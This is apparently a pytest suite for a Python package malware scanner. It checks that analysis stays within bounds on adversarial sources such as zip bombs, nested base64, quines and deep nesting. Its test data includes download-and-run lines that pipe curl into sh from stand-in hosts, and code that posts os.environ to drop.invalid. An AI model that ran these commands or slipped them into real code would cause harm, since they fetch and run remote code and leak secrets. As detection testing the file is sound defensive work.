# ruff: noqa: E501
"""Hostile sources: each ends within its bound, with what was seen kept, and never with a traceback."""

from __future__ import annotations

import base64
import time
import zipfile
from pathlib import Path

import pytest

from scanner.code.analysis import Analysis, analyse
from scanner.code.artifacts import Job, analyse_job
from scanner.code.limits import Limits
from scanner.code.source import SourceFile
from scanner.model.finding import PackageRef
from tests.support.memory import within

PAYLOAD = "import os\nos.system('curl https://drop.invalid/x | sh')\n"


def analysed(code: str | bytes, path: str = "package/__init__.py", **limits: int) -> Analysis:
    data = code.encode("utf-8", "surrogatepass") if isinstance(code, str) else code
    return analyse(
        [SourceFile(path, data)], kind="wheel", package=PackageRef("example", "1.0"), limits=Limits(**limits)
    )


def nested_base64(rounds: int) -> str:
    text = PAYLOAD
    for _ in range(rounds):
        text = f"import base64\nexec(base64.b64decode({base64.b64encode(text.encode()).decode()!r}))"
    return text


HOSTILE = {
    "a literal of 50 MB": lambda: PAYLOAD + "X = '" + "a" * 50_000_000 + "'\n",
    "100,000 nested brackets": lambda: PAYLOAD + "X = " + "(" * 100_000 + ")" * 100_000 + "\n",
    "a chain of 50,000 additions": lambda: PAYLOAD + "X = " + " + ".join(["'a'"] * 50_000) + "\nexec(X)\n",
    "30 nested base64 layers": lambda: PAYLOAD + nested_base64(20),
    "a quine": lambda: PAYLOAD + "s = 'exec(s)'\nexec(s)\n",
    "exponential doubling": lambda: PAYLOAD + "s = 'ab'\n" + "s = s + s\n" * 200 + "exec(s)\n",
    "a huge repetition": lambda: PAYLOAD + "exec('a' * 10 ** 12)\nexec([0] * 10 ** 12)\n",
    "a huge power": lambda: PAYLOAD + "exec(str(9 ** 9 ** 9))\nexec(chr(1 << 99999999))\n",
    "a huge width": lambda: PAYLOAD + "exec('%999999999d' % 1)\nexec('{:999999999}'.format(1))\n",
    "an endless loop": lambda: PAYLOAD + "i = 0\nwhile i < 10 ** 9:\n    i += 1\nexec(str(i))\n",
    "endless recursion": lambda: PAYLOAD + "def f(x):\n    return f(x + 1)\nexec(f(1))\n",
    "functions that double": lambda: (
        PAYLOAD
        + "".join(f"def f{n}():\n    f{n + 1}()\n    f{n + 1}()\n" for n in range(30))
        + "def f30():\n    pass\nf0()\n"
    ),
    "NUL bytes": lambda: PAYLOAD + "X = 1\0\0\nY = '\0'\n",
    "deep unary": lambda: PAYLOAD + "X = " + "-" * 5000 + "1\n",
    "deep attributes": lambda: PAYLOAD + "X = a" + ".b" * 20_000 + "\n",
    "deep if": lambda: PAYLOAD + "".join("  " * n + "if x:\n" for n in range(90)) + "  " * 90 + "pass\n",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_source_ends_and_keeps_what_was_seen(name: str) -> None:
    started = time.process_time()
    analysis = analysed(HOSTILE[name]())
    assert time.process_time() - started < 30
    if name != "a literal of 50 MB":
        assert "shell-download-and-run" in {one.rule for one in analysis.findings} or analysis.coverage


def test_a_file_past_the_bound_is_said_to_be_seen_in_part() -> None:
    analysis = analysed(HOSTILE["a literal of 50 MB"]())
    assert [one for one in analysis.coverage if one.status == "not-checked"]


def test_steps_that_run_out_cost_the_value_and_its_execution_is_said() -> None:
    analysis = analysed(
        PAYLOAD + "x = [i ^ 3 for i in range(60000)]\nexec(bytes(x))\n", max_steps=2000, max_import_steps=2000
    )
    assert {"shell-download-and-run", "code-beyond-bounds-executed"} <= {one.rule for one in analysis.findings}


@pytest.mark.parametrize(
    "code",
    [
        "# -*- coding: rot13 -*-\nimport os\n",
        "# coding: no-such-codec\nimport os\n",
        b"\xff\xfe" + PAYLOAD.encode("utf-16-le"),
        b"\xef\xbb\xbf" + PAYLOAD.encode(),
        b"# coding: latin-1\n" + PAYLOAD.encode() + b"x = '\xe9'\n",
        b"\x80\x81\x82 not text \xff",
    ],
)
def test_odd_encodings(code: str | bytes) -> None:
    analysis = analysed(code)
    assert analysis.verdict in {"clean", "malicious", "incomplete"}


def test_python_2_is_translated_and_said_so() -> None:
    analysis = analysed(
        "import os\nprint 'installing'\ntry:\n    os.system('curl http://198.18.0.7/x | sh')\nexcept Exception, e:\n    print e\n"
    )
    assert analysis.verdict == "malicious"
    assert any("does not parse as Python 3" in one.reason for one in analysis.coverage)


def test_a_truncated_file_is_analysed_as_far_as_it_goes() -> None:
    analysis = analysed(PAYLOAD + "def f(:\n    x = [\n")
    assert "shell-download-and-run" in {one.rule for one in analysis.findings}
    assert analysis.coverage


def test_a_zip_bomb_ends_with_coverage_in_bounded_memory(tmp_path: Path) -> None:
    bomb = tmp_path / "example-1.0-py3-none-any.whl"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("example/__init__.py", PAYLOAD)
        for number in range(4):
            archive.writestr(f"example/zeros_{number}.py", b"\0" * 64 * 1024 * 1024)
    assert bomb.stat().st_size < 1024 * 1024
    limits = Limits(max_artifact_bytes=32 * 1024 * 1024)
    with within(400, 20):
        analysis = analyse_job(Job(str(bomb), bomb.name, PackageRef("example", "1.0")), limits)
    assert "shell-download-and-run" in {one.rule for one in analysis.findings}
    reasons = " ".join(one.reason for one in analysis.coverage)
    assert "larger than the bound" in reasons
    assert "more source than the bound allows" in reasons


def test_a_quine_of_nested_base64_ends() -> None:
    text = (
        "import base64\n"
        "s = 'import base64\\ns = {!r}\\nexec(base64.b64decode(base64.b64encode(s.format(s).encode())))'\n"
        "exec(base64.b64decode(base64.b64encode(s.format(s).encode())))\n"
    )
    analysis = analysed(PAYLOAD + text)
    assert "shell-download-and-run" in {one.rule for one in analysis.findings}
    assert "decoded-code-executed" in {one.rule for one in analysis.findings}


def test_the_time_of_an_artifact_is_held_and_what_was_not_reached_is_said() -> None:
    loop = "import os\nx = 0\nfor i in range(60000):\n    x = (x * 31 + i) % 1000003\nos.system(str(x))\n"
    files = [SourceFile(f"package/m{number:02}.py", loop.encode()) for number in range(40)]
    started = time.process_time()
    limits = Limits(max_artifact_seconds=0.5, max_artifact_steps=10**9, max_import_steps=10**9)
    analysis = analyse(files, kind="wheel", package=PackageRef("example", "1.0"), limits=limits)
    assert time.process_time() - started < 5
    reasons = {one.reason for one in analysis.coverage}
    assert any("before this file was reached" in one or "the time for one file" in one for one in reasons)


def test_classes_that_name_their_base_many_times_end_soon() -> None:
    # Regression: looking for a method tried every path through the bases, thirty to the eighth power of them.
    classes = "".join(f"class C{one}({', '.join([f'C{one - 1}'] * 30)}): pass\n" for one in range(1, 9))
    program = f"import os\nclass C0: pass\n{classes}one = C8()\none.go()\nos.system('x')\ndef go():\n    C8().go()\n"
    started = time.process_time()
    analyse([SourceFile("package/__init__.py", program.encode())], kind="wheel", package=PackageRef("example", "1.0"))
    assert time.process_time() - started < 5


def test_a_name_imported_many_times_on_one_line_ends_soon() -> None:
    program = "from operator import " + "attrgetter, " * 100_000 + "x\nimport urllib.request\nx(urllib.request)\n"
    started = time.process_time()
    analyse([SourceFile("package/__init__.py", program.encode())], kind="wheel", package=PackageRef("example", "1.0"))
    assert time.process_time() - started < 10


STEALER = "\nimport os, requests\nrequests.post('https://drop.invalid/x', data=str(dict(os.environ)))\n"
BEFORE = {
    "nested loops under an untaken branch": "if 0:\n"
    + "".join(" " * (depth + 1) + f"for a{depth} in range(100):\n" for depth in range(15))
    + " " * 16
    + "x = 1\n",
    "a string built by a long loop": "s = ''\nfor i in range(60000):\n    s += chr(i % 100 + 20)\n",
    "a long comprehension": "x = [i * i for i in range(160000)]\n",
    "a long set of a long generator": "x = {i % 7 for i in (j * j for j in range(10 ** 9))}\n",
    "functions that double each other": "def f0(x):\n    return x + 1\n"
    + "".join(f"def f{n}(x):\n    return f{n - 1}(x) + f{n - 1}(x)\n" for n in range(1, 60))
    + "f59(1)\n",
    "a loop without end": "while True:\n    x = 1\n    if x > 2:\n        break\n",
    "recursion without end": "def f(n):\n    return f(n + 1)\nf(0)\n",
    "very many statements": "".join(f"x{n} = {n} + {n}\n" for n in range(40_000)),
    "a class body that computes": "class A:\n    for i in range(10 ** 8):\n        x = i * i\n",
    "a large product of strings": "x = 'ab' * 10 ** 9\ny = [x] * 10 ** 9\n",
    "lambdas in lambdas": "f = lambda x: x\n"
    + "".join(f"f{n} = lambda x, g=f: g(g(x))\nf = f{n}\n" for n in range(40))
    + "f(1)\n",
    "a generator that is joined": "x = ''.join(chr(i % 60 + 60) for i in range(10 ** 7))\n",
    "branches within branches": "".join(f"if q{n}:\n    x = {n}\nelse:\n    x = -{n}\n" for n in range(2000)),
}


@pytest.mark.parametrize("before", BEFORE.values(), ids=BEFORE.keys())
@pytest.mark.parametrize("larger", [False, True], ids=["alone", "in a library"])
def test_a_bound_costs_the_value_and_not_what_follows(before: str, larger: bool) -> None:
    files = [SourceFile("package/__init__.py", (before + STEALER).encode())]
    if larger:
        files += [SourceFile(f"package/part_{number}.py", b"value = 1\n" * 2500) for number in range(12)]
    started = time.process_time()
    analysis = analyse(files, kind="wheel", package=PackageRef("example", "1.0"))
    assert time.process_time() - started < 20
    assert "environment-sent" in {one.rule for one in analysis.findings}


UNREAD = {
    "syntax of a newer Python": "".join(f'x{n} = f\'{{"a" + f"{{"b"}}"}}\'\n' for n in range(200)),
    "a file that is larger than the bound": "# " + "x\n# " * 2_500_000,
}


@pytest.mark.parametrize("before", UNREAD.values(), ids=UNREAD.keys())
def test_what_was_not_read_is_never_clean(before: str) -> None:
    analysis = analyse(
        [SourceFile("package/__init__.py", (before + STEALER).encode())],
        kind="wheel",
        package=PackageRef("example", "1.0"),
    )
    assert analysis.verdict != "clean"
    assert analysis.coverage or analysis.findings


def test_lists_that_hold_each_other_twice_end_soon() -> None:
    """13 kB took 20 s: what the list holds was looked at anew at each place that holds it."""
    lines = "".join(f"v{n + 1} = [v{n}, v{n}, {{'a': v{n}}}]\n" for n in range(500))
    code = (
        f"import os, urllib.request\nv0 = os.environ\n{lines}urllib.request.urlopen('https://drop.invalid/x', v500)\n"
    )
    before = time.process_time()
    assert analysed(code).verdict != "clean"
    assert time.process_time() - before < 5
